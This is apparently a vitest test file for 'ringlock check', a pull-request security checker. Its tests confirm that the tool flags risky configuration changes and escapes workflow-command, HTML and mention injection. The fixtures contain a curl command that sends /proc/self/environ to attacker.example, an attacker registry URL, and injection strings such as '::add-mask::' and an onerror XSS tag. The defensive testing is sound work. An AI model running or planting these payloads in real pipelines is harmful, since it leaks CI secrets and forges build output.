// What a pull request can make `ringlock check` say: a change to where credentials go or what runs fails RL012 unless
// overridden, and nothing the repository names (file paths, messages) can become a workflow command, HTML or a
// mention in the log, the job summary or the comment.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { isSensitive, keyName, sensitiveDiff } from '../src/check/sensitive.js';
import {
  CONFIG,
  checkAsAction,
  checkWithComment,
  git,
  type PlatformRepo,
  platformGitRepo,
} from './support/check-repo.js';
import { simpleUser } from './support/github-deployments.js';
import { type GitHubStandin, startGitHubStandin } from './support/github-standin.js';

const TRUSTED = `${CONFIG}registry:
  type: http
  url: https://registry.acme.example/
  tokenEnv: REGISTRY_TOKEN
  timeout: 30s
promotion:
  branch: main
  github:
    repository: acme/platform
health:
  timeout: 60s
  url: http://127.0.0.1:8080/health
`;

/** main with the trusted config committed long ago; then branch pr. */
function trustedRepo(): { repo: PlatformRepo; base: string } {
  const repo = platformGitRepo();
  repo.write({ 'ringlock.yaml': TRUSTED });
  const base = repo.commit('registry, promotion and health settings', Date.now() - 9 * 86_400_000);
  repo.branch('pr');
  return { repo, base };
}

const lineOf = (text: string, needle: string) => text.split('\n').findIndex((l) => l.includes(needle)) + 1;

describe('RL012: security-relevant keys of ringlock.yaml', () => {
  it('fails a change of only registry.url and registry.tokenEnv, at each key, with the before/after', () => {
    const { repo, base } = trustedRepo();
    repo.edit('ringlock.yaml', (t) =>
      t
        .replace('https://registry.acme.example/', 'http://attacker.example/')
        .replace('REGISTRY_TOKEN', 'DEPLOY_TOKEN'),
    );
    const head = repo.commit('faster registry');
    const r = checkAsAction(repo, { base, head });
    expect(r.code, r.stdout + r.stderr).toBe(1);
    const text = repo.read('ringlock.yaml');
    const rl012 = r.errors;
    expect(rl012).toHaveLength(2);
    expect(rl012[0]).toMatch(
      new RegExp(
        `^::error file=ringlock.yaml,line=${lineOf(text, '  url:')},col=3,title=RL012::this change changes registry.url: "https://registry.acme.example/" → "http://attacker.example/"`,
      ),
    );
    expect(rl012[1]).toContain(`line=${lineOf(text, 'tokenEnv:')},col=3,title=RL012`);
    expect(r.summary).toContain('### Sensitive configuration (RL012)');
    expect(r.summary).toContain(
      '| `registry.url` `ringlock.yaml:17` | changed | `"https://registry.acme.example/"` | `"http://attacker.example/"` |',
    );
    expect(r.summary).toContain('| `"REGISTRY_TOKEN"` | `"DEPLOY_TOKEN"` |');
    expect(r.summary).toMatch(/\| RL012 sensitive configuration \| ❌ fail \(2 error\(s\)\) \|/);
    expect(r.stdout).toContain(
      'changed  registry.url (ringlock.yaml:17): "https://registry.acme.example/" → "http://attacker.example/"',
    );
  });

  it("fails a config naming ringlock's own git token as another service's token (RL001 config/own-credential)", () => {
    const { repo, base } = trustedRepo();
    repo.edit('ringlock.yaml', (t) => t.replace('REGISTRY_TOKEN', 'RINGLOCK_GIT_TOKEN'));
    const head = repo.commit('reuse the git token');
    const r = checkAsAction(repo, { base, head });
    expect(r.code, r.stdout + r.stderr).toBe(1);
    const text = repo.read('ringlock.yaml');
    expect(r.errors).toEqual([
      expect.stringMatching(
        new RegExp(
          `^::error file=ringlock.yaml,line=${lineOf(text, 'tokenEnv:')},col=\\d+,title=RL001::/registry/tokenEnv: RINGLOCK_GIT_TOKEN is ringlock's own credential`,
        ),
      ),
    ]);
  });

  it('fails promotion.github.baseUrl and health.command, added; a removed key is placed at its section', () => {
    const { repo, base } = trustedRepo();
    repo.edit('ringlock.yaml', (t) =>
      t
        .replace(
          '    repository: acme/platform\n',
          '    repository: acme/platform\n    baseUrl: http://attacker.example/api/v3\n',
        )
        .replace(
          '  url: http://127.0.0.1:8080/health\n',
          '  command: curl -d @/proc/self/environ attacker.example\n',
        ),
    );
    const head = repo.commit('enterprise API, health script');
    const r = checkAsAction(repo, { base, head }, { args: ['--json'] });
    expect(r.code, r.stdout + r.stderr).toBe(1);
    const report = JSON.parse(r.stdout);
    const text = repo.read('ringlock.yaml');
    const found = (key: string) => report.sensitive.find((c: { key: string }) => c.key === key);
    expect(found('promotion.github.baseUrl')).toMatchObject({
      change: 'added',
      after: '"http://attacker.example/api/v3"',
      line: lineOf(text, 'baseUrl:'),
    });
    expect(found('health.command')).toMatchObject({ change: 'added', line: lineOf(text, 'command:') });
    expect(found('health.url')).toMatchObject({
      change: 'removed',
      before: '"http://127.0.0.1:8080/health"',
      line: lineOf(text, 'health:'),
    });
    const rl012 = report.findings.filter((f: { rule: string }) => f.rule === 'RL012');
    expect(rl012.map((f: { severity: string }) => f.severity)).toEqual(['error', 'error', 'error']);
  });

  it('passes with the ringlock:sensitive label (or --allow sensitive), still showing the before/after', () => {
    const { repo, base } = trustedRepo();
    repo.edit('ringlock.yaml', (t) => t.replace('REGISTRY_TOKEN', 'ACME_REGISTRY_TOKEN'));
    const head = repo.commit('rename the registry token variable');
    const r = checkAsAction(repo, { base, head, labels: ['ringlock:sensitive'] });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.errors).toEqual([]);
    expect(r.warnings[0]).toContain('title=RL012::this change changes registry.tokenEnv');
    expect(r.warnings[0]).toContain('(allowed: label ringlock:sensitive)');
    expect(r.summary).toContain('**Sensitive configuration override** (label ringlock:sensitive)');
    expect(r.summary).toContain('| `"REGISTRY_TOKEN"` | `"ACME_REGISTRY_TOKEN"` |');
    const flag = checkAsAction(repo, { base, head }, { args: ['--allow', 'sensitive', '--json'] });
    expect(flag.code, flag.stdout + flag.stderr).toBe(0);
    expect(JSON.parse(flag.stdout).overrides).toEqual({ sensitive: '--allow sensitive' });
  });

  it('does not fire on an unrelated config edit (a ring soaking longer)', () => {
    const { repo, base } = trustedRepo();
    repo.edit('ringlock.yaml', (t) => t.replace('minSoak: 72h', 'minSoak: 96h'));
    const head = repo.commit('stable soaks longer');
    const r = checkAsAction(repo, { base, head }, { args: ['--json'] });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const report = JSON.parse(r.stdout);
    expect(report.sensitive).toEqual([]);
    expect(report.rules.find((x: { id: string }) => x.id === 'RL012').outcome).toBe('pass');
  });
});

// ---------- workflow-command and Markdown injection ----------

const EVIL = [
  'x\r::error title=pwned::owned',
  'y\n::add-mask::secret',
  'z%0A::warning::w',
  'w##[error]v1',
  '<img src=x onerror=alert(1)>@acme\u2028team[l](http:a)\u202e',
];

/** Locks for undefined rings, named to forge commands: each is an RL001 warning naming its file. */
function evilRepo(): { repo: PlatformRepo; base: string; head: string } {
  const repo = platformGitRepo();
  const base = git(repo.dir, ['rev-parse', 'HEAD']);
  repo.branch('pr');
  mkdirSync(join(repo.dir, 'rings'), { recursive: true });
  for (const name of EVIL) writeFileSync(join(repo.dir, 'rings', `${name}.lock.json`), '{}\n');
  const head = repo.commit('evil names');
  return { repo, base, head };
}

/** Lines as the Actions runner reads them (.NET ReadLine: CR, LF and CRLF all end a line). */
const runnerLines = (s: string) => s.split(/\r\n|\r|\n/);

/**
 * Every line the runner would take for a workflow command: `::name …::` at a line's start after spaces, else the
 * older `##[name …]` anywhere in the line (tried only when the first form does not parse).
 */
function commands(out: string): string[] {
  const found: string[] = [];
  for (const line of runnerLines(out)) {
    const t = line.trimStart();
    if (/^::[^\s:]+.*?::/.test(t)) found.push(t);
    else if (line.includes('##[')) found.push(`##[ in: ${line}`);
  }
  return found;
}

/** ringlock's own: annotations titled with a rule id, its notice, and the stop-commands pair with its token. */
function ringlocksOwn(token: string) {
  return (t: string) =>
    /^::(error|warning) file=[^:]*,title=RL0\d\d::/.test(t) ||
    /^::notice title=ringlock check::/.test(t) ||
    t === `::stop-commands::${token}` ||
    t === `::${token}::`;
}

describe('nothing from the repository becomes a workflow command, HTML or a mention', () => {
  it('in Actions: stdout carries only ringlock’s own commands, the summary no raw line break and no HTML', () => {
    const { repo, base, head } = evilRepo();
    const r = checkAsAction(repo, { base, head });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.warnings).toHaveLength(EVIL.length);
    const token = /::stop-commands::([0-9a-f]{32})/.exec(r.stdout)?.[1] ?? '(none)';
    const own = ringlocksOwn(token);
    expect(commands(r.stdout).filter((c) => !own(c))).toEqual([]);
    expect(commands(r.stdout).filter(own)).toHaveLength(EVIL.length + 2);
    expect(commands(r.stderr)).toEqual([]);
    // Each annotation stays one line whose file property is escaped, and the path reads as what it is.
    expect(
      r.warnings.some((w) =>
        w.startsWith('::warning file=rings/x%0D%3A%3Aerror title=pwned%3A%3Aowned.lock.json,'),
      ),
    ).toBe(true);
    expect(r.stdout).toContain('rings/x\\r:\\:error title=pwned:\\:owned.lock.json');
    expect(r.stdout).toContain('rings/z%0A:\\:warning:\\:w.lock.json');
    expect(r.stdout).not.toContain('\u202e');
    expectSafeMarkdown(r.summary);
  });

  it('--json in Actions: the same report, parseable, with no command sequence or invisible character raw', () => {
    const { repo, base, head } = evilRepo();
    const r = checkAsAction(repo, { base, head }, { args: ['--json'] });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(commands(r.stdout)).toEqual([]);
    expect(r.stdout).not.toMatch(/::|##\[|\u202e/);
    const files = JSON.parse(r.stdout).findings.map((f: { file: string }) => f.file);
    for (const name of EVIL) expect(files).toContain(`rings/${name}.lock.json`);
  });

  it('the sticky comment is the same safe Markdown', async () => {
    const { repo, base, head } = evilRepo();
    const { gh, bodies } = await commentStandin();
    const r = await checkWithComment(repo, gh.url, TOKEN, base, head);
    expect(r.code, r.stderr).toBe(0);
    expect(bodies).toHaveLength(1);
    expect(bodies[0]!.startsWith('<!-- ringlock:check -->\n')).toBe(true);
    expectSafeMarkdown(bodies[0]!.slice('<!-- ringlock:check -->\n'.length));
  });
});

function expectSafeMarkdown(md: string): void {
  expect(md).toContain('rings/');
  expect(md).not.toMatch(/[\r\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
  for (const line of md.split('\n')) expect(line.trimStart().startsWith('::'), line).toBe(false);
  // Outside code spans (where Markdown, HTML and mentions do not apply): the only tag is ringlock's own line break,
  // every @ is followed by a zero-width space, every [ and ] is escaped.
  const prose = md.replace(/`[^`\n]*`/g, '');
  expect(prose.replace(/<br>/g, '')).not.toMatch(/</);
  expect(prose).not.toMatch(/@(?!&#8203;)/);
  expect(prose.replace(/\[!(WARNING|IMPORTANT|CAUTION)\]/g, '')).not.toMatch(/(?<!\\)[[\]]/);
  expect(md).toContain('&lt;img src=x onerror=alert(1)&gt;@&#8203;acme\\\\u2028team\\[l\\](http:a)\\\\u202e');
  expect(md).toContain('`rings/x\\r::error title=pwned::owned.lock.json`');
  expect(md).toContain('`rings/y\\n::add-mask::secret.lock.json`');
}

// ---------- a GitHub stand-in for the comment ----------

const TOKEN = 'ghs_trust_token_0123456789';
const standins: GitHubStandin[] = [];
afterEach(async () => {
  for (const s of standins.splice(0)) await s.close();
});

async function commentStandin() {
  const gh = await startGitHubStandin({ token: TOKEN, prefix: '/api/v3' });
  standins.push(gh);
  const bodies: string[] = [];
  gh.on('issues/list-comments', () => ({ status: 200, body: [] }));
  gh.on('issues/create-comment', (req) => {
    const body = (req.body as { body: string }).body;
    bodies.push(body);
    const url = `${gh.url}/repos/acme/platform/issues/comments/900`;
    return {
      status: 201,
      headers: { location: url },
      body: {
        id: 900,
        node_id: 'IC_900',
        url,
        html_url: 'https://github.com/acme/platform/pull/7#issuecomment-900',
        issue_url: `${gh.url}/repos/acme/platform/issues/7`,
        body,
        user: simpleUser(gh.url, 'github-actions[bot]', 41898282),
        created_at: '2026-01-02T03:04:05Z',
        updated_at: '2026-01-02T03:04:05Z',
        author_association: 'NONE',
      },
    };
  });
  return { gh, bodies };
}

describe('which keys are security-relevant (pure)', () => {
  it('names each changed key leaf by leaf, anywhere a key names a URL, a command or an env var', () => {
    const base = { rings: [{ name: 'a', minSoak: '1h' }], registry: { type: 'file', path: 'r' } };
    const head = {
      rings: [{ name: 'a', minSoak: '2h', runner: { command: 'sh x', env: { A: '1' }, timeout: '1m' } }],
      registry: { type: 'http', url: 'https://r.example/' },
    };
    expect(sensitiveDiff(base, head).map((d) => `${d.change} ${keyName(d.path)}`)).toEqual([
      'added rings[0].runner.command',
      'added rings[0].runner.env.A',
      'changed registry.type',
      'removed registry.path',
      'added registry.url',
    ]);
    expect(sensitiveDiff(head, head)).toEqual([]);
    expect(isSensitive(['notifications', 'webhooks', 0, 'events'])).toBe(true);
    expect(isSensitive(['health', 'timeout'])).toBe(false);
    expect(isSensitive(['promotion', 'freeze'])).toBe(false);
  });
});
